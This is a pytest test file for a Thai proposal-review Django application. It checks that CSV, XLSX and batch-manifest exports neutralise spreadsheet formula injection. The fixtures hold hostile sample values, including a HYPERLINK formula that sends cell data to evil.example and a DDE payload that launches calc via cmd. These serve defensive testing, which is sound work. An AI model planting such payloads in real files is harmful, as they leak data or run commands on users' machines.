"""Text a province typed is never a formula in what OPDC downloads: the data exports (CSV and
XLSX) and the batch ZIP's manifest. The manifest also names what was submitted, not what
the records say today."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from proposals.review import exports
from proposals.rows import KINDS
from strategies.models import Indicator, Organisation, Project, StrategicIssue
from tests.proposals.conftest import advance
from tests.review.conftest import SUBMIT, refresh

pytestmark = pytest.mark.django_db

IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
ISSUE = '=HYPERLINK("http://evil.example/?d="&A1,"คลิก")'
INDICATOR = "+SUM(1,2) ร้อยละของครัวเรือน"
PROJECT = "-2+3 โครงการตลาดกลาง"
CHANGE = "@SUM(1+1)*cmd|' /C calc'!A0"
GAP = "\t=1+1 ช่องว่าง"
PLAIN = "ลดขั้นตอน - ไม่ใช่สูตร = ข้อความ"  # a dash or "=" inside the text is left alone


@pytest.fixture
def hostile(world, round_):
    """Chumphon returned, its texts retyped to look like formulas, submitted again."""
    from proposals import services

    blueprint = round_.chumphon
    advance(blueprint, world.reviewer, "return")
    advance(blueprint, world.editor, "revise")
    StrategicIssue.objects.filter(pk=blueprint.issue_id).update(title=ISSUE)
    Indicator.objects.filter(goal__issue=blueprint.issue_id).update(name=INDICATOR)
    Project.objects.filter(strategy__issue=blueprint.issue_id).update(title=PROJECT)
    change = blueprint.change_proposals.first()
    services.row_update(
        user=world.editor, blueprint=blueprint, kind=KINDS["change"], obj=change,
        values={"title": CHANGE, "gap": GAP, "expected_result": PLAIN}, version=change.version,
    )  # fmt: skip
    advance(blueprint, world.editor, *SUBMIT)
    refresh()
    blueprint.refresh_from_db()
    data = blueprint.snapshots.order_by("-edition").first().data
    change = next(c for c in data["change_proposals"] if c["title"] == CHANGE)
    assert (data["issue"]["title"], change["gap"]) == (ISSUE, GAP)  # stored as typed
    return blueprint


def export(client, kind, fmt):
    response = client.get(
        reverse("proposals:review:data_export", args=[kind, fmt]), {"fy": 2548, "q": "ชุมพร"}
    )
    assert response.status_code == 200
    return response.content


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_exports_write_formula_like_text_as_text(world, hostile, client_for):
    client = client_for(world.reviewer)
    indicators = csv_rows(export(client, "indicators", "csv"))
    assert {row["ประเด็นยุทธศาสตร์"] for row in indicators} == {"'" + ISSUE}
    assert {row["ตัวชี้วัด"] for row in indicators} == {"'" + INDICATOR}
    projects = csv_rows(export(client, "projects", "csv"))
    assert {row["โครงการ"] for row in projects} == {"'" + PROJECT}
    changes = csv_rows(export(client, "changes", "csv"))
    edited = next(row for row in changes if row["ประเด็นการเปลี่ยนแปลง"] == "'" + CHANGE)
    assert edited["ช่องว่างที่ปิด"] == "'" + GAP
    assert edited["ผลที่คาดว่าจะได้รับ"] == PLAIN  # anything else exactly as typed
    assert edited["ปีงบประมาณ"] == "2548"  # numbers are not touched


def test_xlsx_export_never_holds_a_formula(world, hostile, client_for):
    book = load_workbook(io.BytesIO(export(client_for(world.reviewer), "all", "xlsx")))
    formulas = [
        c.coordinate for s in book for row in s.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    texts = {
        c.value: c for s in book for row in s.iter_rows() for c in row if isinstance(c.value, str)
    }
    for typed in (ISSUE, INDICATOR, PROJECT, CHANGE, GAP):
        cell = texts[typed]  # the text exactly as typed, no apostrophe added
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    assert not texts[PLAIN].quotePrefix


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def manifest_of(world, blueprint, django_capture_on_commit_callbacks, settings) -> list[dict]:
    settings.TASKS = IMMEDIATE
    with django_capture_on_commit_callbacks(execute=True):
        job = exports.export_job_create(user=world.reviewer, blueprints=[blueprint.pk], title="t")
    job.refresh_from_db()
    with zipfile.ZipFile(exports.archive_path(job)) as bundle:
        return csv_rows(bundle.read("manifest.csv"))


def test_batch_manifest_writes_formula_like_titles_as_text(
    world, hostile, media, settings, django_capture_on_commit_callbacks
):
    (row,) = manifest_of(world, hostile, django_capture_on_commit_callbacks, settings)
    assert row["issue"] == "'" + ISSUE
    assert row["province"] == "ชุมพร"


def test_batch_manifest_names_what_was_submitted(
    world, round_, media, settings, django_capture_on_commit_callbacks
):
    """Renamed after submission: the manifest still says what the PDF beside it says."""
    blueprint = round_.chumphon
    submitted_title = blueprint.issue.title
    StrategicIssue.objects.filter(pk=blueprint.issue_id).update(title="ชื่อประเด็นที่แก้ภายหลัง")
    Organisation.objects.filter(pk=blueprint.province_id).update(name="ชื่อจังหวัดที่แก้ภายหลัง")
    (row,) = manifest_of(world, blueprint, django_capture_on_commit_callbacks, settings)
    assert row["issue"] == submitted_title
    assert row["province"] == "ชุมพร"
    assert row["fiscal_year"] == "2548"
